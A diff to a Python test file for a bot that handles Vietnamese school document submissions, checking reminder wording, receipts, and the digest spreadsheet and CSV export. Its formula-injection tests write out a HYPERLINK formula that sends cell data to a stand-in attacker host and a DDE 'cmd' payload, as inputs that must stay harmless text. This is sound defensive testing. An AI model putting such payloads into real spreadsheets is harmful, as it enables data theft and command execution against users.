@@ -85,7 +85,9 @@ def test_reminder_after_the_deadline_says_how_late(ctx):
     now = at(13, 9)
     msg = build(ctx, reminder_for(ctx, status_of(ctx, now=now), now=now), now=now)
     text = msg.get_body(("plain",)).get_content()
-    assert "đã quá 3 ngày" in text and "khẩn trương" in text
+    html = msg.get_body(("html",)).get_content()
+    assert "đã quá hạn 3 ngày" in text and "khẩn trương" in text
+    assert "đã quá hạn 3 ngày" in html
 
 
 def test_hygiene_headers_and_both_alternatives(ctx):
@@ -198,6 +200,9 @@ def test_digest_has_headline_sections_and_the_full_matrix_as_xlsx(ctx):
     assert hoa_mai[4:9] == ["Chưa đủ", "Đúng hạn - 03/10/2023 08:00", "Chưa nộp", "Đang chờ kiểm tra", "Chưa nộp"]
     review = [list(r) for r in wb["Chờ xem xét"].iter_rows(values_only=True)]
     assert review[1][0] == "R3" and review[1][-1] == "không đọc được chữ (ảnh chụp)"
+    # names, not codes: the school and the document type as the coordinator knows them
+    assert review[0][3:6] == ["Trường (dự đoán)", "Mã trường", "Loại hồ sơ (dự đoán)"]
+    assert review[1][3:7] == ["MN Hoa Mai", "mn-hoa-mai", "Biên bản họp xét, đề nghị", "scan0001.pdf"]
 
 
 def test_digest_of_a_huge_roster_stays_under_gmails_clipping_size(ctx):
@@ -229,3 +234,170 @@ def test_durations_in_vietnamese():
     assert vn_duration(timedelta(days=1, hours=9, minutes=30, seconds=1)) == "1 ngày 9 giờ"
     assert vn_duration(timedelta(hours=2, minutes=5)) == "2 giờ 5 phút"
     assert vn_duration(timedelta(seconds=1)) == "dưới 1 phút"
+
+
+# -- spreadsheet (formula) injection ---------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Tờ trình").pdf'
+
+
+def _all_cells(wb):
+    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
+
+
+def test_mail_derived_text_in_the_digest_xlsx_is_shown_as_written_never_a_formula(ctx):
+    from openpyxl import load_workbook
+
+    now = at(7, 7)
+    items = [item(1, at(3), ("bien_ban",), school="mn-hoa-mai", decision="review", filename=FORMULA,
+                  reasons=("@SUM(1+1)", "-2+3")),
+             item(2, at(3), ("to_trinh",), school=None, decision="review", filename="+cmd|' /C calc'!A0.pdf",
+                  reasons=("\tTAB",))]
+    status = status_of(ctx, items, now=now)
+    r = renderer(ctx)
+    mail, attachments = notify.build_digest(ctx, r, status, plan.DigestInputs())
+    wb = load_workbook(io.BytesIO(attachments[0].data))
+    assert not [c.coordinate for c in _all_cells(wb) if c.data_type == "f"]
+    review = {row[0].value: row for row in wb["Chờ xem xét"].iter_rows(min_row=2)}
+    names = [c.value for c in review["R1"]] + [c.value for c in review["R2"]]
+    assert FORMULA in names and "+cmd|' /C calc'!A0.pdf" in names        # shown exactly as the school named it
+    risky = [c for row in review.values() for c in row if isinstance(c.value, str) and c.value[:1] in "=+-@\t"]
+    assert risky and all(c.quotePrefix for c in risky)                   # Excel shows them as typed text
+
+
+def test_export_csv_prefixes_text_a_spreadsheet_would_evaluate(tmp_path):
+    import csv
+    from bot.store import Store
+    from .outgoing import record
+    from .test_notify import cli, write_config
+
+    cfg = write_config(tmp_path)
+    with Store.open(tmp_path / "state") as store:
+        record(store, at(5, 9), sender="thcsnguyenhien.q12@hcm.edu.vn", subject="=1+1 Hồ sơ",
+               files=[(FORMULA, NH, ("to_trinh",), "counted"), ("Biên bản.pdf", NH, ("bien_ban",), "counted")])
+    code, out = cli("--config", cfg, "--now", "2023-10-06T08:00", "export", "--format", "csv")
+    assert code == 0
+    rows = list(csv.DictReader(io.StringIO(out)))
+    by_name = {r["filename"].lstrip("'"): r for r in rows}
+    assert by_name[FORMULA]["filename"] == "'" + FORMULA
+    assert by_name[FORMULA]["subject"] == "'=1+1 Hồ sơ"
+    assert by_name["Biên bản.pdf"]["filename"] == "Biên bản.pdf"          # ordinary text is untouched
+    assert not [v for r in rows for v in r.values() if v and v[0] in "=+-@\t\r"]
+
+
+def test_an_optional_document_not_sent_is_neither_overdue_nor_red_in_the_digest_xlsx(ctx):
+    from openpyxl import load_workbook
+
+    now = at(12, 7)
+    status = status_of(ctx, [item(1, at(2), ("to_trinh", "bao_cao", "bien_ban"))], now=now)
+    mail, attachments = notify.build_digest(ctx, renderer(ctx), status, plan.DigestInputs())
+    ws = load_workbook(io.BytesIO(attachments[0].data))["Tổng hợp"]
+    nh = next(row for row in ws.iter_rows(min_row=2) if row[0].value == NH)
+    assert nh[4].value == "Đủ"
+    assert nh[8].value == "Không nộp (không bắt buộc)"
+    assert nh[8].fill.fill_type is None                                   # no red
+    hoa_mai = next(row for row in ws.iter_rows(min_row=2) if row[0].value == "mn-hoa-mai")
+    assert hoa_mai[5].value == "Chưa nộp (đã quá hạn)" and hoa_mai[5].fill.fgColor.rgb.endswith("FEE2E2")
+
+
+# -- receipts: lateness, combined PDFs; addressing by level; headers -------------------------
+
+def _receipt(ctx, counted, items, now):
+    status = status_of(ctx, items, now=now)
+    (mail,) = plan.due_receipts(status, ctx.rules, counted, set(), now)
+    msg = build(ctx, mail, now=now)
+    return msg.get_body(("plain",)).get_content(), msg.get_body(("html",)).get_content()
+
+
+def test_a_receipt_after_the_deadline_says_how_overdue_and_asks_for_the_rest(ctx):
+    now = at(14, 10)
+    items = [item(1, at(14, 9), ("to_trinh", "bao_cao"), filename="ho-so.pdf")]
+    counted = [plan.CountedItem(1, NH, ("to_trinh", "bao_cao"), "ho-so.pdf", at(14, 9), "thcsnguyenhien.q12@hcm.edu.vn")]
+    text, html = _receipt(ctx, counted, items, now)
+    assert "Biên bản họp xét, đề nghị" in text.split("Phòng chưa nhận được:")[1]
+    assert ("Hạn nộp: 23:59 ngày 10/10/2023 (giờ Việt Nam), đã quá hạn 4 ngày; "
+            "đề nghị Quý Trường gửi bổ sung sớm.") in text
+    assert "đã quá hạn 4 ngày</b>; đề nghị Quý Trường gửi bổ sung sớm." in html
+    # before the deadline a receipt only states the deadline
+    items = [item(1, at(5, 9), ("to_trinh", "bao_cao"), filename="ho-so.pdf")]
+    counted = [dataclasses.replace(counted[0], received_at=at(5, 9))]
+    text, html = _receipt(ctx, counted, items, at(5, 10))
+    assert "Hạn nộp: 23:59 ngày 10/10/2023 (giờ Việt Nam)." in text
+    assert "quá hạn" not in text and "quá hạn" not in html
+
+
+def test_a_receipt_for_a_combined_pdf_names_the_pages_of_each_document(ctx):
+    now = at(5, 10)
+    docs = [("to_trinh", 1, 1), ("bao_cao", 2, 4), ("bien_ban", 5, 6)]
+    items = [item(i, at(5, 9), (d,), filename="document.pdf") for i, (d, _, _) in enumerate(docs, start=1)]
+    items.append(item(4, at(5, 9), ("ke_hoach",), filename="ke-hoach.pdf"))
+    counted = [plan.CountedItem(i, NH, (d,), "document.pdf", at(5, 9), "thcsnguyenhien.q12@hcm.edu.vn",
+                                first_page=first, last_page=last, parts=3)
+               for i, (d, first, last) in enumerate(docs, start=1)]
+    counted.append(plan.CountedItem(4, NH, ("ke_hoach",), "ke-hoach.pdf", at(5, 9), "thcsnguyenhien.q12@hcm.edu.vn",
+                                    first_page=1, last_page=5))
+    text, html = _receipt(ctx, counted, items, now)
+    for pages in ("document.pdf (trang 1)", "document.pdf (trang 2–4)", "document.pdf (trang 5–6)"):
+        assert f"Tệp: {pages}\n" in text.replace("\r\n", "\n")
+    assert "Tệp: ke-hoach.pdf\n" in text.replace("\r\n", "\n")            # a file of one document: no pages
+    assert "document.pdf <span style=\"white-space:nowrap;\">(trang 2–4)</span>" in html
+
+
+def test_counted_items_carry_the_pages_and_the_number_of_documents_in_their_file(ctx):
+    from bot.status import apply_corrections
+    from bot.store import Store
+    from .outgoing import record
+
+    with Store.open(ctx.config.paths.state) as store:
+        ids = record(store, at(5, 9), sender="thcsnguyenhien.q12@hcm.edu.vn",
+                     files=[("document.pdf", NH, ("to_trinh",), "counted"), ("document.pdf", NH, ("bao_cao",), "counted"),
+                            ("bien-ban.pdf", NH, ("bien_ban",), "counted")])
+        store.conn.execute("UPDATE items SET first_page = 2, last_page = 4 WHERE id = ?", (ids[1],))
+        store.conn.commit()
+        facts = apply_corrections(store.items(), [], ctx.rules.campaign, 2023, at(5, 10))
+        counted = {c.item_id: c for c in notify.counted_items(store, facts, 2023)}
+    assert (counted[ids[1]].first_page, counted[ids[1]].last_page, counted[ids[1]].parts) == (2, 4, 2)
+    assert counted[ids[0]].parts == 2 and counted[ids[2]].parts == 1
+
+
+def test_a_centre_is_addressed_as_a_centre_not_a_school(ctx):
+    centre = "tt-gdnn-gdtx-q12"
+    status = status_of(ctx, [item(1, at(5, 9), ("to_trinh",), school=centre)])
+    reminder = build(ctx, reminder_for(ctx, status, school=centre))
+    now = at(5, 10)
+    counted = [plan.CountedItem(1, centre, ("to_trinh",), "f1.pdf", at(5, 9), "ttgdnngdtx.q12@hcm.edu.vn")]
+    (receipt_mail,) = plan.due_receipts(status_of(ctx, [item(1, at(5, 9), ("to_trinh",), school=centre)], now=now),
+                                        ctx.rules, counted, set(), now)
+    receipt = build(ctx, receipt_mail, now=now)
+    for msg in (reminder, receipt):
+        for body in (msg.get_body(("plain",)).get_content(), msg.get_body(("html",)).get_content()):
+            assert "Ban Giám đốc Trung tâm GDNN-GDTX Quận 12" in body
+            assert "Quý Trung tâm" in body
+            assert "Quý Trường" not in body and "Ban Giám hiệu" not in body and "Trường TT" not in body
+    school = build(ctx, reminder_for(ctx, status)).get_body(("plain",)).get_content()
+    assert "Kính gửi: Ban Giám hiệu Trường THCS Nguyễn Hiền" in school and "Quý Trường" in school
+
+
+def test_mail_names_the_office_from_the_rules(ctx, tmp_path):
+    rules_dir = tmp_path / "rules"
+    shutil.copytree(ROOT / "rules", rules_dir)
+    toml = (rules_dir / "campaign.toml").read_text(encoding="utf-8")
+    (rules_dir / "campaign.toml").write_text(
+        toml.replace('name = "PHÒNG GIÁO DỤC VÀ ĐÀO TẠO"', 'name = "PHÒNG VĂN HÓA - XÃ HỘI"'), encoding="utf-8")
+    from bot.rules import load_rules
+    rules = load_rules(rules_dir)
+    status = status_of(ctx, rules=rules)
+    mail = next(m for m in plan.due_reminders(status, rules, set(), at(7, 9)).mails if m.school == NH)
+    msg = build(ctx, mail)
+    for body in (msg.get_body(("plain",)).get_content(), msg.get_body(("html",)).get_content()):
+        assert "Phòng Văn hóa - Xã hội Quận 12 trân trọng nhắc Quý Trường" in body
+        assert "Giáo dục và Đào tạo" not in body
+
+
+def test_every_message_says_it_is_in_vietnamese(ctx):
+    reminder = build(ctx, reminder_for(ctx, status_of(ctx)))
+    r = renderer(ctx)
+    mail, attachments = notify.build_digest(ctx, r, status_of(ctx, now=at(7, 7)), plan.DigestInputs())
+    digest = build(ctx, mail, r, now=at(7, 7), attachments=attachments)
+    assert reminder["Content-Language"] == "vi"
+    assert digest["Content-Language"] == "vi" and digest.get_content_type() == "multipart/mixed"
